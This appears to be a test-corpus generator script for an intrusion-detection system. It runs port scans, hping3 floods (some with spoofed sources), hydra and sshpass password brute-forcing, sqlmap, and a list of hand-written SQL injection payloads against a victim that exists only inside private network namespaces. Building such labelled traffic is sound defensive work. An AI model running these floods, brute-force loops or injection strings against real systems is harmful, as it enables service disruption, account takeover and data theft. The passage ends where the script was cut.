#!/usr/bin/env bash
# Labelled evaluation corpus: one capture per scenario, generated with REAL
# tools inside private network namespaces, captured on the victim interface.
#
#   sudo bash tests/corpus/generate.sh                 # all scenarios (~10 min)
#   sudo bash tests/corpus/generate.sh nmap_syn sqli_manual   # only some
#   SKIP_SLOW=1 sudo bash tests/corpus/generate.sh     # all but nmap_slow (~4 min saved)
#
# Safety: every packet stays inside namespaces created here (ids-cp-*), joined
# by a bridge living in its own namespace. Addresses: victim 10.77.1.1,
# benign client 10.77.1.10, attackers 10.77.1.66/.67/.68. Every generator is
# bounded in count and wrapped in `timeout`. Namespaces, helper processes and
# the temporary dir are removed on exit.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=$HERE
. "$HERE/../fixtures/lib/common.sh"

[ "$(id -u)" = 0 ] || { echo "must run as root (sudo)" >&2; exit 1; }
for t in tcpdump tshark nmap hping3 masscan hydra sshpass ssh ssh-keygen curl dig ping gzip; do
  command -v "$t" >/dev/null || { echo "missing tool: $t" >&2; exit 1; }
done
SSHD=/usr/sbin/sshd
[ -x $SSHD ] || { echo "missing /usr/sbin/sshd" >&2; exit 1; }
HAVE_SQLMAP=1; command -v sqlmap >/dev/null || HAVE_SQLMAP=0
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY || true

TMPD=$(mktemp -d /tmp/ids-corpus.XXXXXX)
chmod 755 "$TMPD"
trap cleanup_all EXIT
trap 'exit 130' INT TERM

ALL_SCENARIOS=(
  nmap_syn nmap_connect nmap_udp nmap_slow masscan
  syn_flood syn_flood_spoofed udp_flood icmp_flood ddos_syn
  exploit_probe_multi exploit_probe_single ssh_bruteforce ssh_bruteforce_sshpass sqli_sqlmap sqli_manual
  benign_browse benign_download benign_dns_burst benign_ssh benign_mixed
  nmap_ack nmap_maimon nmap_udp_lowport dns_query_flood dns_query_flood_1sock http_flood
  http_login_bruteforce ftp_bruteforce ssh_slow_bruteforce sqli_encodings
  benign_syslog benign_rtp benign_llmnr benign_smb_race benign_one_sided benign_slow_handshake
  benign_keepalive benign_loadtest benign_sql_lookalikes benign_web_login benign_ftp telnet_bruteforce http_flood_keepalive
)
if [ $# -gt 0 ]; then SCENARIOS=("$@"); else SCENARIOS=("${ALL_SCENARIOS[@]}"); fi
if [ "${SKIP_SLOW:-0}" = 1 ]; then
  tmp=(); for s in "${SCENARIOS[@]}"; do case $s in nmap_slow|ssh_slow_bruteforce) ;; *) tmp+=("$s") ;; esac; done
  SCENARIOS=("${tmp[@]}")
fi

# namespace names are unique per run (several generators or test runs may share the machine)
R=$$
SW=ids-cp-sw-$R V=ids-cp-v-$R C=ids-cp-c-$R A1=ids-cp-a1-$R A2=ids-cp-a2-$R A3=ids-cp-a3-$R
VIC=10.77.1.1 CLI=10.77.1.10 AT1=10.77.1.66 AT2=10.77.1.67 AT3=10.77.1.68
VMAC=02:77:01:00:00:01

# ---------------------------------------------------------------- topology
log "building namespaces"
ns_new $SW
ip -n $SW link add br0 type bridge
ip -n $SW link set br0 type bridge stp_state 0 forward_delay 0 2>/dev/null || true
ip -n $SW link set br0 up
attach() { # NS PORT IPv4 MAC
  ns_new "$1"
  nsx "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 >/dev/null 2>&1 || true
  veth "$1" eth0 $SW "$2"
  nsx "$1" sysctl -qw net.ipv6.conf.eth0.disable_ipv6=1 >/dev/null 2>&1 || true
  ip -n "$1" link set eth0 address "$4"
  ip -n $SW link set "$2" master br0
  ip -n "$1" addr add "$3/24" dev eth0
}
attach $V p-vic $VIC $VMAC
attach $C p-cli $CLI 02:77:01:00:00:10
attach $A1 p-at1 $AT1 02:77:01:00:00:66
attach $A2 p-at2 $AT2 02:77:01:00:00:67
attach $A3 p-at3 $AT3 02:77:01:00:00:68
# Backscatter of the spoofed flood (SYN-ACKs to random addresses) goes to
# attacker 1, which does not forward (ip_forward=0) -> it never leaves the namespaces.
ip -n $V route add default via $AT1
nsx $A1 sysctl -qw net.ipv4.ip_forward=0

# ---------------------------------------------------------------- services (victim)
log "starting services in victim $V"
WWW=$TMPD/www; mkdir -p "$WWW/docs"
cat >"$WWW/index.html" <<'HTML'
<!doctype html><html><head><title>victim web</title></head><body>
<h1>Victim web server</h1><a href="/docs/readme.txt">readme</a></body></html>
HTML
printf 'Line %s of the readme file.\n' $(seq 1 200) >"$WWW/docs/readme.txt"
truncate -s 100M "$WWW/big.bin"
spawn http $V "$PY" -m http.server 80 --bind $VIC --directory "$WWW"
spawn sqli $V "$PY" "$HERE/lib/sqli_app.py" $VIC 8080
spawn dns $V "$PY" "$HERE/../fixtures/lib/dns_server.py" $VIC 53
spawn web $V "$PY" "$HERE/lib/web_server.py" $VIC 8081
spawn webslow $V "$PY" "$HERE/lib/slow_accept_server.py" $VIC 8082 16 250
spawn llmnr $V "$PY" "$HERE/lib/llmnr_responder.py" $VIC
for port in 445 139 3389; do spawn "echo$port" $V socat TCP-LISTEN:$port,bind=$VIC,fork,reuseaddr PIPE; done
spawn syslogd $V socat -u UDP-RECV:514,bind=$VIC OPEN:/dev/null
spawn rtpsink $V socat -u UDP-RECV:5004,bind=$VIC OPEN:/dev/null
mkdir -p "$TMPD/ftp"; cp "$WWW/docs/readme.txt" "$TMPD/ftp/"
spawn telnetd $V "$PY" "$HERE/lib/tiny_inetd.py" $VIC 23 /usr/sbin/telnetd
spawn ftpd $V "$PY" -m pyftpdlib -i $VIC -p 21 -u alice -P 'correct horse' -d "$TMPD/ftp"
# multicast (LLMNR/mDNS) leaves by eth0
for ns in $V $C; do ip -n $ns route add 224.0.0.0/4 dev eth0 2>/dev/null || true; done

mkdir -p /run/sshd && chmod 755 /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$TMPD/hostkey" -C ids-corpus-host
ssh-keygen -q -t ed25519 -N '' -f "$TMPD/clientkey" -C ids-corpus-client
cp "$TMPD/clientkey.pub" "$TMPD/authorized_keys"
cat >"$TMPD/sshd_config" <<EOF
Port 22
ListenAddress $VIC
HostKey $TMPD/hostkey
PidFile $TMPD/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication yes
PermitRootLogin prohibit-password
AuthorizedKeysFile $TMPD/authorized_keys
StrictModes no
MaxAuthTries 6
MaxStartups 100:30:200
LoginGraceTime 20
PrintMotd no
Banner none
Subsystem sftp internal-sftp
EOF
$SSHD -t -f "$TMPD/sshd_config"
spawn sshd $V $SSHD -D -e -f "$TMPD/sshd_config"
wait_port $C $VIC 80; wait_port $C $VIC 8080; wait_port $C $VIC 22; wait_port $C $VIC 8081; wait_port $C $VIC 21
SSHOPTS=(-i "$TMPD/clientkey" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -o LogLevel=ERROR)

# ---------------------------------------------------------------- scenario helpers
META=$TMPD/meta.jsonl
: >"$META"
flush_neigh() { local ns; for ns in $V $C $A1 $A2 $A3; do ip -n $ns neigh flush all 2>/dev/null || true; done; }

# run_scenario NAME SNAPLEN [NS] [TCPDUMP ARGS...] : capture on eth0 of NS (the victim by default) while sc_NAME runs
run_scenario() {
  local name=$1 snap=${2:-262144} ns=${3:-$V} t0
  shift 3 2>/dev/null || shift $#
  t0=$(date +%s)
  log "scenario $name"
  flush_neigh
  cap_start "$name" "$ns" -i eth0 -s "$snap" "$@" -w "$TMPD/$name.pcap"
  local P=$CAPPID
  sleep 0.5
  "sc_$name"
  sleep 0.5
  cap_stop $P
  gzip -9 -n -c "$TMPD/$name.pcap" >"$OUT/$name.pcap.gz"
  log "  $name: $(capinfos -c -M "$TMPD/$name.pcap" 2>/dev/null | awk -F: '/packets/{gsub(/ /,"",$2);print $2}') packets, $(stat -c %s "$OUT/$name.pcap.gz") bytes gz, $(( $(date +%s) - t0 )) s"
}
# meta NAME kind=.. type=.. attackers=.. spoofed=.. tool=.. filter=..
meta() { local name=$1; shift; "$PY" "$HERE/lib/manifest.py" add "$META" name="$name" file="$name.pcap.gz" victim=$VIC "$@"; }
from() { local IFS=,; local f=""; for a in "$@"; do f="${f:+$f or }ip.src==$a"; done; echo "$f"; }

# ---------------------------------------------------------------- attack scenarios
sc_nmap_syn() {
  local cmd="nmap -n -Pn -sS -p 1-200 --max-retries 1 -T4 $VIC"
  nsx $A1 timeout 60 $cmd >/dev/null || true
  meta nmap_syn kind=attack type=port_scan attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_nmap_connect() {
  local cmd="nmap -n -Pn -sT -p 1-200 --max-retries 1 -T4 $VIC"
  nsx $A1 timeout 60 $cmd >/dev/null || true
  meta nmap_connect kind=attack type=port_scan attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_nmap_udp() {
  local cmd="nmap -n -Pn -sU --top-ports 30 --max-retries 1 -T4 --host-timeout 80s $VIC"
  nsx $A1 timeout 90 $cmd >/dev/null || true
  meta nmap_udp kind=attack type=port_scan attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_nmap_slow() {
  local cmd="nmap -n -Pn -sS -p 1-18,22,80 --scan-delay 12s --max-retries 0 $VIC"
  nsx $A2 timeout 300 $cmd >/dev/null || true
  meta nmap_slow kind=attack type=port_scan attackers=$AT2 spoofed=0 tool="$cmd" filter="$(from $AT2)"
}
sc_masscan() {
  local cmd="masscan $VIC -p1-200 --rate 1000 --wait 3 --adapter eth0 --adapter-ip $AT3 --adapter-mac 02:77:01:00:00:68 --router-mac $VMAC"
  nsx $A3 timeout 30 $cmd >"$TMPD/masscan.out" 2>&1 || true
  meta masscan kind=attack type=port_scan attackers=$AT3 spoofed=0 tool="$cmd" filter="$(from $AT3)"
}
sc_syn_flood() {
  local cmd="hping3 -S -p 80 -i u200 -c 5000 $VIC"
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 || true
  meta syn_flood kind=attack type=syn_flood attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_syn_flood_spoofed() {
  local cmd="hping3 -S -p 80 --rand-source -i u200 -c 5000 $VIC"
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 || true
  meta syn_flood_spoofed kind=attack type=syn_flood attackers= spoofed=1 tool="$cmd" \
    filter="ip.dst==$VIC and tcp.flags.syn==1 and tcp.flags.ack==0 and not ip.src==10.77.1.0/24"
}
sc_udp_flood() {
  local cmd="hping3 --udp -p 53 -i u200 -c 5000 $VIC"
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 || true
  meta udp_flood kind=attack type=udp_flood attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_icmp_flood() {
  local cmd="hping3 -1 -i u200 -c 5000 $VIC"
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 || true
  meta icmp_flood kind=attack type=icmp_flood attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_ddos_syn() {
  local cmd="hping3 -S -p 80 -i u500 -c 3000 $VIC"
  local p1 p2 p3
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 & p1=$!
  nsx $A2 timeout 30 $cmd >/dev/null 2>&1 & p2=$!
  nsx $A3 timeout 30 $cmd >/dev/null 2>&1 & p3=$!
  wait $p1 $p2 $p3 || true
  meta ddos_syn kind=attack type=ddos attackers=$AT1,$AT2,$AT3 spoofed=0 \
    tool="$cmd (run simultaneously from $AT1, $AT2, $AT3)" filter="$(from $AT1 $AT2 $AT3)"
}
sc_exploit_probe_multi() {
  local cmd="nmap -n -Pn -sS -p 135,139,445,3389,5900,21,22,23,69 --max-retries 0 $VIC"
  nsx $A2 timeout 30 $cmd >/dev/null || true
  meta exploit_probe_multi kind=attack type=exploit_probe attackers=$AT2 spoofed=0 tool="$cmd" filter="$(from $AT2)"
}
sc_exploit_probe_single() {
  local cmd="nmap -n -Pn -sS -p 445 --max-retries 0 $VIC"
  nsx $A3 timeout 30 $cmd >/dev/null || true
  meta exploit_probe_single kind=attack type=exploit_probe attackers=$AT3 spoofed=0 tool="$cmd" filter="$(from $AT3)"
}
PASSWORDS=(123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon
  123123 baseball abc123 football monkey letmein 696969 shadow master 666666
  qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212
  000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter)
sc_ssh_bruteforce() {
  # idstest does not exist on the host: every guess fails (no account is created).
  printf '%s\n' "${PASSWORDS[@]}" >"$TMPD/passwords.txt"
  local cmd="hydra -I -t 4 -w 5 -l idstest -P passwords.txt(${#PASSWORDS[@]} entries) ssh://$VIC"
  ( cd "$TMPD" && nsx $A1 timeout 60 hydra -I -t 4 -w 5 -l idstest -P "$TMPD/passwords.txt" "ssh://$VIC" >"$TMPD/hydra.out" 2>&1 ) || true
  meta ssh_bruteforce kind=attack type=brute_force attackers=$AT1 spoofed=0 tool="timeout 60 $cmd" filter="$(from $AT1)"
}
sc_ssh_bruteforce_sshpass() {
  # one password guess per TCP connection with the OpenSSH client, 20 guesses
  local pw n=0
  for pw in "${PASSWORDS[@]:0:20}"; do
    nsx $A2 timeout 10 sshpass -p "$pw" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
      -o ConnectTimeout=5 -o LogLevel=QUIET idstest@$VIC true >/dev/null 2>&1 || true
    n=$((n + 1))
  done
  meta ssh_bruteforce_sshpass kind=attack type=brute_force attackers=$AT2 spoofed=0 \
    tool="for 20 passwords: sshpass -p PW ssh -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 idstest@$VIC true" \
    filter="$(from $AT2)"
}
sc_sqli_sqlmap() {
  if [ $HAVE_SQLMAP = 0 ]; then log "  sqlmap missing (apt-get install sqlmap) - skipped"; return; fi
  local url="http://$VIC:8080/item?id=1"
  local cmd="sqlmap -u '$url' --batch --level 1 --risk 1 --timeout 5 --retries 0 --threads 1 --tables --dump -T users"
  nsx $A2 timeout 90 sqlmap -u "$url" --batch --level 1 --risk 1 --timeout 5 --retries 0 --threads 1 \
    --tables --dump -T users --flush-session --output-dir "$TMPD/sqlmap" >"$TMPD/sqlmap.out" 2>&1 || true
  meta sqli_sqlmap kind=attack type=sql_injection attackers=$AT2 spoofed=0 tool="timeout 90 $cmd" filter="$(from $AT2)"
}
sc_sqli_manual() {
  local b="http://$VIC:8080"
  local c=(nsx $A3 curl -s -g -m 5 -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0")
  "${c[@]}" "$b/item?id=1'+OR+1=1--" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1+OR+1=1" || true; sleep 0.3
  "${c[@]}" "$b/item?id=-1+UNION+SELECT+id,username,password+FROM+users--" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1;DROP+TABLE+items--" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1+AND+sleep(5)" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL,sqlite_version(),NULL--" || true; sleep 0.3
  "${c[@]}" "$b/search?q=x%27%20OR%20%271%27%3D%271" || true; sleep 0.3
  "${c[@]}" "$b/search?q=%27%20UNION%20SELECT%20name,sql,3%20FROM%20sqlite_master--" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1%2527%2520OR%25201%253D1--" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1%252F%252A%252A%252FUNION%252F%252A%252A%252FSELECT%25201,2,3" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1/**/UNION/**/SELECT/**/1,2,3--" || true; sleep 0.3
  "${c[@]}" "$b/search?q=a%27%3B%20WAITFOR%20DELAY%20%270:0:5%27--" || true; sleep 0.3
  "${c[@]}" -X POST --data "username=admin'--&password=x" "$b/login" || true; sleep 0.3
  "${c[@]}" -X POST --data-urlencode "username=admin" --data-urlencode "password=' OR '1'='1" "$b/login" || true; sleep 0.3
  "${c[@]}" -X POST --data-urlencode "username=x' UNION SELECT 1,password FROM users--" --data-urlencode "password=y" "$b/login" || true
  meta sqli_manual kind=attack type=sql_injection attackers=$AT3 spoofed=0 \
    tool="curl: 12 GET (' OR 1=1--, UNION SELECT, ;DROP TABLE, sleep(5), WAITFOR DELAY, url- and double-url-encoded, /**/ comments) + 3 POST /login body injections" \
    filter="$(from $AT3)"
}

# ---------------------------------------------------------------- benign scenarios
sc_benign_browse() {
  local b80="http://$VIC" b="http://$VIC:8080"
  local c=(nsx $C curl -s -g -m 5 -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0")
  local i
  for i in 1 2; do
    "${c[@]}" "$b80/" || true; "${c[@]}" "$b80/docs/readme.txt" || true
    "${c[@]}" "$b/" || true; sleep 0.7
    "${c[@]}" "$b/search?search=select+a+plan" || true; sleep 0.6
    "${c[@]}" "$b/items?order=desc&limit=10" || true; sleep 0.5
    "${c[@]}" "$b/search?name=O'Brien" || true; sleep 0.8
    "${c[@]}" "$b/search?q=drop+the+beat" || true; sleep 0.4
    "${c[@]}" "$b/item?id=2&limit=10" || true; sleep 0.9
    "${c[@]}" "$b/search?q=union+station&order=asc" || true; sleep 0.5
    "${c[@]}" "$b/search?q=rock+%26+roll" || true; sleep 0.6
    "${c[@]}" "$b/search?q=it%27s+fine" || true; sleep 0.5
    "${c[@]}" "$b/search?q=where+to+insert+update+delete+a+row%3F" || true; sleep 0.7
    "${c[@]}" -X POST --data-urlencode "username=alice" --data-urlencode "password=correct horse" "$b/login" || true; sleep 1
  done
  meta benign_browse kind=benign spoofed=0 \
    tool="curl: normal browsing with SQL-looking words and apostrophes (select a plan, order=desc, O'Brien, drop the beat, limit=10, union station, it's) + POST login" \
    filter="$(from $CLI)"
}
sc_benign_download() {
  nsx $C timeout 60 curl -s -m 55 -o /dev/null "http://$VIC/big.bin" || true
  meta benign_download kind=benign spoofed=0 tool="curl http://$VIC/big.bin (100 MiB, python http.server), captured with snaplen 96" \
    filter="$(from $CLI) or ip.dst==$CLI"
}
sc_benign_dns_burst() {
  local i
  for i in $(seq 1 300); do echo "host$i.corp.example.test A"; done >"$TMPD/dnsbatch.txt"
  nsx $C timeout 30 dig @$VIC +tries=1 +time=1 -f "$TMPD/dnsbatch.txt" >/dev/null || true
  meta benign_dns_burst kind=benign spoofed=0 tool="dig @$VIC -f batch (300 A queries, sequential)" filter="$(from $CLI)"
}
sc_benign_ssh() {
  local i
  for i in 1 2 3; do
    nsx $C timeout 20 ssh "${SSHOPTS[@]}" root@$VIC 'uname -a; id -un; uptime' >/dev/null || true
    sleep 1.5
  done
  meta benign_ssh kind=benign spoofed=0 tool="ssh -i key root@$VIC 'uname -a; id -un; uptime' (3 successful public-key logins)" filter="$(from $CLI)"
}
sc_benign_mixed() {
  local i end=$(( $(date +%s) + 60 ))
  i=0
  while [ "$(date +%s)" -lt $end ] && [ $i -lt 200 ]; do
    i=$((i + 1))
    case $((i % 6)) in
      0) nsx $C curl -s -m 5 -o /dev/null "http://$VIC/" || true ;;
      1) nsx $C dig @$VIC +tries=1 +time=1 "www$i.example.test" A >/dev/null || true ;;
      2) nsx $C curl -s -m 5 -o /dev/null "http://$VIC:8080/search?q=plan&order=desc" || true ;;
      3) nsx $C ping -c 2 -i 0.3 -W 1 $VIC >/dev/null || true ;;
      4) nsx $C curl -s -m 5 -o /dev/null "http://$VIC/docs/readme.txt" || true ;;
      5) [ $((i % 18)) = 5 ] && { nsx $C timeout 15 ssh "${SSHOPTS[@]}" root@$VIC 'ls / | wc -l' >/dev/null || true; } ;;
    esac
    sleep 0.$(( (i * 37) % 9 + 1 ))
  done
  meta benign_mixed kind=benign spoofed=0 tool="60 s of curl (ports 80/8080), dig, ping and ssh from $CLI" filter="$(from $CLI)"
}


# ---------------------------------------------------------------- issue 14: scan shapes, answered floods, logins
sc_nmap_ack() {
  local cmd="nmap -n -Pn -sA -p 1-200 --max-retries 1 -T4 $VIC"
  nsx $A1 timeout 60 $cmd >/dev/null || true
  meta nmap_ack kind=attack type=port_scan attackers=$AT1 spoofed=0 tool="$cmd" filter="$(from $AT1)"
}
sc_nmap_maimon() {
  local cmd="nmap -n -Pn -sM -p 1-200 --max-retries 1 -T4 $VIC"
  nsx $A2 timeout 60 $cmd >/dev/null || true
  meta nmap_maimon kind=attack type=port_scan attackers=$AT2 spoofed=0 tool="$cmd" filter="$(from $AT2)"
}
sc_nmap_udp_lowport() {
  local cmd="nmap -n -Pn -sU -g 53 --top-ports 30 --max-retries 1 -T4 --host-timeout 80s $VIC"
  nsx $A3 timeout 90 $cmd >/dev/null || true
  meta nmap_udp_lowport kind=attack type=port_scan attackers=$AT3 spoofed=0 tool="$cmd" filter="$(from $AT3)"
}
dns_query_file() { # a real A query for www.example.test (what a query flood repeats)
  printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x04test\x00\x00\x01\x00\x01' >"$TMPD/query.bin"
}
sc_dns_query_flood() {
  dns_query_file
  local cmd="hping3 --udp -p 53 -E query.bin -d 34 -i u250 -c 6000 $VIC"
  nsx $A1 timeout 30 hping3 --udp -p 53 -E "$TMPD/query.bin" -d 34 -i u250 -c 6000 $VIC >/dev/null 2>&1 || true
  meta dns_query_flood kind=attack type=udp_flood attackers=$AT1 spoofed=0 \
    tool="$cmd (a DNS query per packet from rising source ports, every one answered)" filter="$(from $AT1)"
}
sc_dns_query_flood_1sock() {
  dns_query_file
  local cmd="hping3 --udp -k -s 40000 -p 53 -E query.bin -d 34 -i u250 -c 6000 $VIC"
  nsx $A2 timeout 30 hping3 --udp -k -s 40000 -p 53 -E "$TMPD/query.bin" -d 34 -i u250 -c 6000 $VIC >/dev/null 2>&1 || true
  meta dns_query_flood_1sock kind=attack type=udp_flood attackers=$AT2 spoofed=0 \
    tool="$cmd (one source port, every query answered)" filter="$(from $AT2)"
}
sc_http_flood() {
  local cmd="ab -n 2000 -c 20 http://$VIC:8081/" p1 p2 p3
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 & p1=$!
  nsx $A2 timeout 30 $cmd >/dev/null 2>&1 & p2=$!
  nsx $A3 timeout 30 $cmd >/dev/null 2>&1 & p3=$!
  wait $p1 $p2 $p3 || true
  meta http_flood kind=attack type=ddos attackers=$AT1,$AT2,$AT3 spoofed=0 \
    tool="$cmd (a new connection per request, run simultaneously from $AT1, $AT2, $AT3; snaplen 128)" filter="$(from $AT1 $AT2 $AT3)"
}
sc_http_flood_keepalive() {
  local cmd="ab -k -n 3000 -c 4 http://$VIC:8081/" p1 p2 p3
  nsx $A1 timeout 30 $cmd >/dev/null 2>&1 & p1=$!
  nsx $A2 timeout 30 $cmd >/dev/null 2>&1 & p2=$!
  nsx $A3 timeout 30 $cmd >/dev/null 2>&1 & p3=$!
  wait $p1 $p2 $p3 || true
  meta http_flood_keepalive kind=attack type=ddos attackers=$AT1,$AT2,$AT3 spoofed=0 \
    tool="$cmd (requests on 4 kept-alive connections per bot, run simultaneously from $AT1, $AT2, $AT3; snaplen 128)" filter="$(from $AT1 $AT2 $AT3)"
}
sc_http_login_bruteforce() {
  printf '%s\n' "${PASSWORDS[@]}" >"$TMPD/passwords.txt"
  local form="/login:username=^USER^&password=^PASS^:F=Login failed"
  ( cd "$TMPD" && nsx $A2 timeout 60 hydra -I -t 4 -l admin -P "$TMPD/passwords.txt" -s 8081 $VIC http-post-form "$form" >"$TMPD/hydra_http.out" 2>&1 ) || true
  meta http_login_bruteforce kind=attack type=brute_force attackers=$AT2 spoofed=0 \
    tool="hydra -t 4 -l admin -P passwords.txt(${#PASSWORDS[@]}) -s 8081 $VIC http-post-form '$form'" filter="$(from $AT2)"
}
sc_ftp_bruteforce() {
  printf '%s\n' "${PASSWORDS[@]:0:24}" >"$TMPD/passwords24.txt"
  ( cd "$TMPD" && nsx $A1 timeout 90 hydra -I -t 2 -l alice -P "$TMPD/passwords24.txt" ftp://$VIC >"$TMPD/hydra_ftp.out" 2>&1 ) || true
  meta ftp_bruteforce kind=attack type=brute_force attackers=$AT1 spoofed=0 \
    tool="hydra -t 2 -l alice -P passwords(24) ftp://$VIC (pyftpdlib: 3 tries per connection, 530 after each)" filter="$(from $AT1)"
}
sc_telnet_bruteforce() {
  # netkit telnetd + /bin/login: "Login incorrect" after each guess (idstest does not exist)
  printf '%s\n' "${PASSWORDS[@]:0:16}" >"$TMPD/passwords16.txt"
  ( cd "$TMPD" && nsx $A2 timeout 90 hydra -I -t 2 -l idstest -P "$TMPD/passwords16.txt" telnet://$VIC >"$TMPD/hydra_telnet.out" 2>&1 ) || true
  cp "$TMPD/hydra_telnet.out" /tmp/h14-hydra-telnet.out 2>/dev/null || true
  meta telnet_bruteforce kind=attack type=brute_force attackers=$AT2 spoofed=0 \
    tool="hydra -t 2 -l idstest -P passwords(16) telnet://$VIC (netkit telnetd + /bin/login)" filter="$(from $AT2)"
}
sc_ssh_slow_bruteforce() {
  local pw
  for pw in "${PASSWORDS[@]:0:9}"; do
    nsx $A3 timeout 10 sshpass -p "$pw" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
      -o ConnectTimeout=5 -o LogLevel=QUIET idstest@$VIC true >/dev/null 2>&1 || true
    sleep 19
  done
  meta ssh_slow_bruteforce kind=attack type=brute_force attackers=$AT3 spoofed=0 \
    tool="9 x sshpass -p PW ssh -o NumberOfPasswordPrompts=1 idstest@$VIC, one every 20 s" filter="$(from $AT3)"
}
sc_sqli_encodings() {
  local b="http://$VIC:8080"
  local c=(nsx $A3 curl -s -g -m 5 -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0")
  "${c[@]}" "$b/item?id=1%20OR%200x31=0x31" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1%20or%20char(49)=char(49)" || true; sleep 0.3
  "${c[@]}" "$b/search?q=x%27%20OR%20%27a%27=CHAR(97)--%20" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1e0UNION%20SELECT%201,username,password%20FROM%20users" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1.e1OR%201.e1=1.e1" || true; sleep 0.3
  "${c[@]}" "$b/item?id=-1%20UN/**/ION%20SEL/**/ECT%201,2,3" || true; sleep 0.3
  "${c[@]}" "$b/item?id=-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2,3" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1%20/*!OR*/%201=1" || true; sleep 0.3
  "${c[@]}" "$b/item?id=1%20AnD%200x1=0x1" || true
  meta sqli_encodings kind=attack type=sql_injection attackers=$AT3 spoofed=0 \
    tool="curl: OR 0x31=0x31, char(49)=char(49), 'a'=CHAR(97), 1e0UNION SELECT, 1.e1OR 1.e1=1.e1, UN/**/ION SEL/**/ECT, /*!50000UNION*/, /*!OR*/ 1=1, AnD 0x1=0x1" \
    filter="$(from $AT3)"
}
sc_benign_syslog() {
  nsx $C bash -c "timeout 10 '$PY' '$HERE/lib/pace.py' 900 5 | timeout 12 logger --udp --server $VIC --port 514 -t app" || true
  meta benign_syslog kind=benign spoofed=0 tool="logger --udp --server $VIC --port 514 fed ~900 lines/s for 5 s (one socket, never answered)" filter="$(from $CLI)"
}
sc_benign_rtp() {
  nsx $C timeout 10 "$PY" "$HERE/lib/rtp_stream.py" $VIC 5004 1200 3 || true
  meta benign_rtp kind=benign spoofed=0 tool="RTP video stream: one socket, PT 96, 1200 packets/s of 900-1200 bytes for 3 s, never answered (captured with snaplen 96)" filter="$(from $CLI)"
}
sc_benign_llmnr() {
  local i
  for i in $(seq 1 15); do
    nsx $C timeout 3 dig @224.0.0.252 -p 5355 +tries=1 +time=1 +norecurse "host$i" A >/dev/null 2>&1 || true
    nsx $C timeout 3 dig @224.0.0.251 -p 5353 +tries=1 +time=1 +norecurse "printer$i.local" A >/dev/null 2>&1 || true
  done
  meta benign_llmnr kind=benign spoofed=0 tool="15 LLMNR + 15 mDNS queries (dig to 224.0.0.252:5355 / 224.0.0.251:5353), unicast answers from $VIC" \
    filter="$(from $CLI) or ip.src==$VIC"
}
sc_benign_smb_race() {
  # Each round: the client's first SYN-ACK from 139 is lost on the way in (an nft drop in the client
  # namespace while the race runs), 445 wins, the client drops its 139 socket; the server's
  # retransmitted SYN-ACK then meets the client kernel's RST.
  local i
  for i in 1 2 3 4 5 6; do
    nsx $C nft -f - <<NFT
table inet race {
  chain input {
    type filter hook input priority 0;
    tcp sport 139 tcp flags & (syn | ack) == (syn | ack) drop
  }
}
NFT
    nsx $C timeout 10 "$PY" "$HERE/lib/smb_race.py" $VIC 1 || true
    nsx $C nft delete table inet race
    sleep 1.5
  done
  meta benign_smb_race kind=benign spoofed=0 tool="6 Windows-style races: connect to 445 and 139 at once, keep 445, the late 139 SYN-ACK is reset" filter="$(from $CLI)"
}
sc_benign_one_sided() {
  nsx $C timeout 20 ssh "${SSHOPTS[@]}" root@$VIC 'uname -a' >/dev/null || true
  local port
  for port in 445 3389 139 445 3389; do
    nsx $C timeout 20 "$PY" "$HERE/lib/tcp_session.py" $VIC $port 3 || true
    sleep 0.5
  done
  nsx $C timeout 10 curl -s -m 5 -o /dev/null "http://$VIC/" || true
  meta benign_one_sided kind=benign spoofed=0 \
    tool="capture of the inbound direction only (tcpdump -Q in): ssh login, sessions to 445/3389/139, an HTTP GET" filter="$(from $CLI)"
}
sc_benign_slow_handshake() {
